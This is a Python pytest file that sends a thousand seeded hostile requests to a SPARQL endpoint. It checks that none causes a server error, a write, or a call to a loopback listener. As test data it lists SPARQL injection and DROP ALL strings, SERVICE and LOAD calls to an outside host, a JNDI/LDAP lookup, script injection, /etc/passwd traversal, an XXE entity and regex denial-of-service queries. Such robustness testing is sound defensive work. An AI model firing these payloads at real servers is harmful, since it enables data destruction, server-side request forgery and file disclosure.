"""A thousand hostile requests: no crash, no write, no connection to anybody else.

They are drawn from the rows below with a fixed seed, so that every run sends the same. A listener on loopback
stands for whoever must not be called.
"""

import random
import socket
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Final
from urllib.parse import quote

import httpx
import pytest

COUNT: Final = 1_000
ASK: Final = "ASK { ?person foaf:name 'Ada Adams' }"
EVERYTHING: Final = "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?s ?p ?o } }"
INJECTED: Final = (
    "' } INSERT DATA { <x:a> <x:b> <x:c> } #",
    '"> <x:y> . } ; DROP ALL ; SELECT * {',
    "Ada Adams' } UNION { SERVICE <{call}> { ?a ?b ?c } #",
    "\u202e\u2066<script>fetch('{call}')</script>",
    "{{7*7}}{% raw %}${jndi:ldap://{call}}",
    "../../../../etc/passwd\x00.rq",
    "A" * 5_000,
    "%00%ff%fe",
    "\\\\u0027 } #",
)
UPDATES: Final = (
    "INSERT DATA {{ <x:a> <x:b> {n} }}",
    "DELETE WHERE {{ ?s ?p ?o }}",
    "DROP ALL",
    "LOAD <{call}>",
    "CLEAR GRAPH <x:{n}>",
    "CREATE GRAPH <x:{n}>",
    "SELECT * {{ ?s ?p ?o }} ; DROP ALL",
    "WITH <x:{n}> DELETE {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}",
)
CALLS: Final = (
    "SELECT * {{ SERVICE <{call}> {{ ?a ?b {n} }} }}",
    "SELECT * {{ SERVICE SILENT <{call}x?{n}> {{ ?a ?b ?c }} }}",
    "SELECT * {{ ?s ?p ?o BIND(<{call}> AS ?e) SERVICE ?e {{ ?a ?b ?c }} }}",
    "SELECT * FROM <{call}> {{ ?s ?p ?o }} LIMIT {n}",
    "CONSTRUCT {{ ?a ?b ?c }} {{ {{ SELECT * {{ SERVICE <{call}> {{ ?a ?b ?c }} }} }} }}",
)
COSTLY: Final = (
    "SELECT * {{ ?a (!<x:p{n}>)* ?b . ?b (!<x:q>)* ?c . ?c (!<x:r>)+ ?d }}",
    "SELECT (COUNT(*) AS ?n) {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER(?a != {n}) }}",
    "SELECT (GROUP_CONCAT(STR(?o)) AS ?x) {{ ?s ?p ?o . ?t ?q ?r . ?u ?v ?w }}",
    "SELECT * {{ ?s ?p ?o FILTER REGEX(STR(?o), '(a+)+$') FILTER({n} = {n}) }}",
    "SELECT * {{ " + "{{ " * 300 + "?s ?p {n}" + " }}" * 300 + " }}",
    "SELECT * {{ ?s ?p ?o }} ORDER BY RAND() LIMIT {n}",
)
BROKEN: Final = (
    b"\xff\xfe\x00S\x00E\x00L",
    b"SELECT * { ?s ?p \xc3\x28 }",
    b"SELECT * { ?s ?p '\xed\xa0\x80' }",
    b"\x00" * 400,
    b"{" * 9_000,
    b"SELECT \xf0\x9f\x92\xa9 WHERE",
    b"query=%zz%&query=&&=&query=ASK%20%7B%7D",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
KINDS: Final = (
    "application/sparql-query",
    "application/x-www-form-urlencoded",
    "application/sparql-update",
    "multipart/form-data; boundary=x",
    "text/plain; charset=utf-16",
    "application/json",
)
PATHS: Final = (
    "",
    "questions",
    "questions/career",
    "sparql",
    "id/person/",
    "graph",
    "network",
    "query",
    "static/",
)
METHODS: Final = ("PUT", "DELETE", "PATCH", "POST", "TRACE", "PROPFIND")


class Listener:
    """Counts who connects to it."""

    def __init__(self) -> None:
        """Listen on a port of loopback."""
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.called = 0
        threading.Thread(target=self._listen, daemon=True).start()

    @property
    def address(self) -> str:
        """Return where it listens."""
        return f"http://127.0.0.1:{self.socket.getsockname()[1]}/"

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.called += 1
            connection.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.socket.close()


@pytest.fixture(scope="module")
def strict(
    small_graph: Path, run_server: Callable[..., AbstractContextManager[httpx.Client]]
) -> Iterator[httpx.Client]:
    with run_server(small_graph, "--timeout", "0.25", "--processes", "2") as client:
        yield client


def hostile(chance: random.Random, client: httpx.Client, call: str, number: int) -> httpx.Request:
    """Return one hostile request."""

    def filled(rows: tuple[str, ...]) -> str:
        return chance.choice(rows).format(call=call, n=number)

    kind = chance.choices(("text", "update", "call", "cost", "broken", "method"), (4, 3, 3, 0.4, 3, 2))[0]
    if kind == "text":
        text = chance.choice(INJECTED).replace("{call}", call)
        path = chance.choice(
            (f"questions/career?person={quote(text)}", f"?search={quote(text)}", f"id/person/{quote(text)}")
        )
        return client.build_request("GET", path)
    if kind == "broken":
        headers = {"Content-Type": chance.choice(KINDS)}
        return client.build_request("POST", "sparql", content=chance.choice(BROKEN), headers=headers)
    if kind == "method":
        return client.build_request(
            chance.choice(METHODS), chance.choice(PATHS), content=b"<x:a> <x:b> <x:c> ."
        )
    query = filled({"update": UPDATES, "call": CALLS, "cost": COSTLY}[kind])
    if kind == "update" and chance.random() < 0.5:
        return client.build_request("POST", "sparql", data={"update": query})
    if chance.random() < 0.5:
        return client.build_request("GET", "sparql", params={"query": query})
    return client.build_request("POST", "sparql", data={"query": query, "default-graph-uri": call})


def test_a_thousand_hostile_requests_crash_write_and_call_nothing(
    strict: httpx.Client, listener: Listener
) -> None:
    before = strict.get("sparql", params={"query": EVERYTHING}).text
    chance = random.Random(20261121)  # noqa: S311 - the same requests in every run, nothing secret
    answers: Counter[int] = Counter()
    for number in range(COUNT):
        answer = strict.send(hostile(chance, strict, listener.address, number))
        answers[answer.status_code] += 1
        assert answer.status_code != httpx.codes.INTERNAL_SERVER_ERROR, (
            answer.request.url,
            answer.text[:300],
        )
    assert answers.total() == COUNT
    assert listener.called == 0
    assert strict.get("sparql", params={"query": ASK}).json()["boolean"] is True
    assert strict.get("sparql", params={"query": EVERYTHING}).text == before
